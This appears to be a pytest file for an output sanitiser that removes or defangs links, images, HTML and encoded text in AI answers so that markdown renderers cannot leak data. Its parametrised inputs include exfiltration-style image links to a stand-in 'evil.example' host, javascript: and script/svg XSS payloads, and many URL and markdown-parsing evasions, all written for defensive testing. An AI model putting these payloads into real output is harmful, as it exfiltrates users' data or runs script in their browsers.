from __future__ import annotations

import pytest
from markdown_it import MarkdownIt

from leaving import FOUND, left, prompt

RENDERERS = [MarkdownIt("commonmark", {"html": True}), MarkdownIt("commonmark", {"html": True}).enable("table")]
EVIL = "https://evil.example/?q=c2VjcmV0"


def rendered(text: str) -> str:
    return "\n".join(renderer.render(text) for renderer in RENDERERS)


def test_an_image_from_a_strangers_address_carries_no_data_away() -> None:
    said = left(f"The harbour opens at six. ![chart]({EVIL})")
    assert said == "The harbour opens at six. chart"
    assert "<img" not in rendered(said)


@pytest.mark.parametrize(
    "text",
    [
        f"![a][b]\n\n[b]: {EVIL}",
        f"[a]({EVIL})",
        f"[a](<{EVIL}>)",
        f"[a]({EVIL} 'title')",
        f"[a][b]\n\n> [b]: <{EVIL}>",
        f"[a]:\n{EVIL}\n\n[a]",
        f"<{EVIL}>",
        f"<img src={EVIL}>",
        f"<a\nhref='{EVIL}'>x</a>",
        f"[![a]({EVIL})]({EVIL})",
        "[a](javascript:alert(1))",
        "[a](&#106;avascript:alert(1))",
        "[a](//evil.example/x)",
        "[a](https:\\\\evil.example)",
        "<script>alert(1)</script>",
        "<svg onload=alert(1)>",
        f"`` ` {EVIL} `",
        f"`a\n\n![x]({EVIL})`",
        f"\\`![x]({EVIL})`",
        f"a ` b\n2. ` ![x]({EVIL}) `",
        f"| ` | ![x]({EVIL}) | ` |\n|---|---|---|\n| ` | ![x]({EVIL}) | ` |",
        f"    ```\n![x]({EVIL})\n",
        f"- ```\n  x\n  ```\n  ![x]({EVIL})\n  ```",
        f"*  ```\n x\n  ```\ny\n```` \n![x]({EVIL})",
        f"~~~\nx\n```\n~~~\n![x]({EVIL})\n```",
        f"- a\n  ```\n  x\n![x]({EVIL})\n  ```",
        f"- ~~~\n  x\n\x0c\n  ~~~\n  ![x]({EVIL})\n",
        f"[99] ```\nx\n```\n![x]({EVIL})\n```",
        f"<b>\n![x]({EVIL})",
        f"a\r![x]({EVIL})",
        f"[a](https:{EVIL[8:]})",
        f"[a](/\\{EVIL[8:]})",
        f"[a](%2f%2f{EVIL[8:]})",
        "[a](&Tab;javascript:alert(1))",
        f"![a](<{EVIL} b>)",
        f"![a]({EVIL}_(b)_(c(d)))",
        f"![a\nb]({EVIL} 'c\nd')",
        f"[^1]\n\n[^1]: ![x]({EVIL})",
        f"[a\\]]: {EVIL}\n\n[a\\]]",
        f"|a|\n|-|\n|![x]({EVIL})|",
        f"[![a`b](<x>)]({EVIL}`abc`)",
        f"![[{EVIL}]]",
        "<b>x</b>\n<img src=x>",
        "<br onload=alert(1)>",
        "<![CDATA[<script>]]>",
        "<?x?><script>",
        "![x](data:image/svg+xml;utf8,<svg>)",
        "![a](?q=secret)",
    ],
)
def test_nothing_that_a_renderer_would_fetch_or_follow_is_left(text: str) -> None:
    shown = rendered(left(text))
    assert "<img" not in shown
    assert "<a" not in shown
    assert "<script" not in shown
    assert "<svg" not in shown


@pytest.mark.parametrize(
    "text",
    [
        EVIL,
        "www.evil.example/x",
        "evil-host.com",
        "evil-host.com/x",
        "//evil-host.com/x",
        "HTTP://EVIL.EXAMPLE",
        "https://аllowed.example.org/docs/",
        "https://allowed.example.org.evil.example/",
        "https://allowed.example.org@evil.example/",
        "https://allowed.example.org/docs/?q=secret",
        "https://allowed.example.org/docs/../x",
        "https://allowed.example.org/docsx",
        "https://allowed.example.org:81/docs/",
        "https://asked.example.com/a?d=secret",
        "https://asked.example.com/a/secret",
        "https&#58;//evil.example",
        "https:\\//evil.example",
        "https：／／evil.example",
        "ht\u200btps://evil.example",
        "evil[99].com",
        "http://192.0.2.1/x",
        "http://[2001:db8::1]/x",
        "ftp://evil.example",
        "slack://open",
        "mailto:a@evil.example",
        "a@evil.example",
        "//evil.`",
        "a.evil-host.comhttps://evil-host.com/x",
        "_www.evil-host.comhttps://evil-host.com/x",
        "a_www.evil-host.nowhere/x",
        "//evil`.com",
        "http://127.1/x",
        "http://0x7f000001/x",
        "evil-host.photography/x",
        "evil-host.com:8080/x",
        "a＠evil.example",
        "\\href{https://evil.example/x}{c}",
        "\\url{evil-host.com/x}",
        "\\includegraphics{//evil-host.com/x.png}",
        "\\href{https:\\/\\/evil.example}{x}",
        "\\href{https:/3221225991/x}{c}",
        "[url=https://evil.example]x[/url]",
        '"a":https://evil.example',
        "{% embed https://evil.example %}",
        "hxxp-https://192.0.2.1/x",
        "hxxps-https://evil.example/x",
        "hxxp+http://evil/x",
        "_a_//evil-host.com/x",
        "_a_//192.0.2.1/x",
        "blue-walrus@.evil-host.com",
        "blue-walrus@.evil",
        "blue-walrus.evil-host.sh",
        "https://evil.example" + "/a" * 3_000,
        "http://" + "a." * 500 + "com",
    ],
)
def test_no_address_of_a_stranger_is_left_as_it_was(text: str) -> None:
    said = left(f"See {text} now.", allow=["https://allowed.example.org/docs/"])
    assert text not in said
    assert "http://" not in said
    assert "https://" not in said
    assert "www." not in said
    assert "@evil" not in said


def test_an_attribute_in_braces_becomes_no_script() -> None:
    assert left("# Hours {onclick=alert(1)}") == "# Hours {onclick =alert(1)}"
    assert left("`# Hours {onclick=alert(1)}`") == "`# Hours {onclick=alert(1)}`"


def test_an_image_in_a_trusted_link_is_taken_out_of_it() -> None:
    said = left(f"[![a]({EVIL})](https://asked.example.com/a)")
    assert "<img" not in rendered(said)
    assert "evil" not in said


@pytest.mark.parametrize("trust", ["author", "user"])
def test_the_label_of_a_passage_alone_says_whether_it_is_trusted(trust: str) -> None:
    text = f"[a]({EVIL})"
    assert left(text, prompt(trust=trust)) == text
    assert left(text, prompt(trust=trust.upper())) == "a [link removed]"


def test_an_address_that_a_passage_gives_can_be_read_and_not_followed() -> None:
    said = left("Read https://known.example.com/page, or ask clerk@known.example.com.")
    assert said == "Read hxxps://known[.]example[.]com/page, or ask clerk[@]known[.]example[.]com."


@pytest.mark.parametrize(
    "text",
    [
        "Read https://asked.example.com/a.",
        "[It](https://asked.example.com/a) says so.",
        "<https://asked.example.com/a>",
        "The manual is https://manual.example.org/start",
        "[guide](https://allowed.example.org/docs/start#top)",
        "![plan](https://allowed.example.org/docs/plan.png)",
        "See [the plan](plan.md).",
    ],
)
def test_what_the_author_or_the_user_gave_stays(text: str) -> None:
    assert left(text, allow=["https://allowed.example.org/docs/"]) == text


def test_a_known_address_is_parted_from_what_some_renderers_would_add_to_it() -> None:
    assert left("见https://asked.example.com/a。evil.example") == "见https://asked.example.com/a 。evil.example"


@pytest.mark.parametrize(
    "text",
    [
        "Set `http://localhost:8000/v1` as base_url [1].",
        "```\ncurl http://localhost:8000/v1\n```\nThat is all [1].",
        "1. Run:\n   ```bash\n   curl http://localhost:8000/v1\n   ```\n2. Done.",
        "`List<String>` and a < b, x <= 3, <3 [1].",
        "Version 1.2.3 of README.md costs $3.50, e.g. at 10.30 a.m. in the U.S. [1][2]",
        "| a | b |\n|---|---|\n| 1<br>2 | x<sup>2</sup> |",
        "$\\frac{a}{b}$ and f(x) = x_1^2, array[i]: done, see [1]: yes",
        "见第 3 章。价格为 5 元 [1]。",
        "path/to/file.py and docs/setup.md",
        "Note: 50% of 20 is 10; AT&T & co.",
    ],
)
def test_ordinary_answers_come_out_as_they_are(text: str) -> None:
    assert left(text) == text


def test_where_nobody_else_has_spoken_links_stay_as_they_are() -> None:
    text = f"[a]({EVIL}) <b>x</b> ![c]({EVIL})"
    assert left(text, prompt(found="")) == text
    assert left(text, prompt(found=FOUND, trust="author")) == text


def test_an_author_can_let_mail_addresses_through() -> None:
    assert left("Write to a@evil.example.", emails=False) == "Write to a@evil.example."


def test_a_long_encoded_text_that_nobody_gave_is_taken_out() -> None:
    packed = "dGhlIHdhbHJ1cyBpcyBibHVlIGFuZCBzaW5ncyBhdCBuaWdodCBpbiA0Mg=="
    assert left(f"It says {packed}.") == "It says [encoded text removed]."
    assert left(f"It says {packed}.", prompt(found=f"Key: {packed}")) == f"It says {packed}."
